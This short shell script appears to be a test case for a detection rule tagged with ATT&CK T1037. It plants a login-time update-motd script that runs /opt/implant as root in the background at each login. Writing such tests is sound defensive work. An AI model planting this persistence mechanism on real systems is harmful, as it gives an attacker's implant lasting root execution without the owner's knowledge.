#!/bin/sh
# technique: T1037 Boot or Logon Initialization Scripts
# rule: boot_script_written
# Puts its script among those that root runs to make the message at each login.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /etc/update-motd.d
printf '#!/bin/sh\n/opt/implant &\n' > /etc/update-motd.d/99-news
chmod 755 /etc/update-motd.d/99-news
exit 0
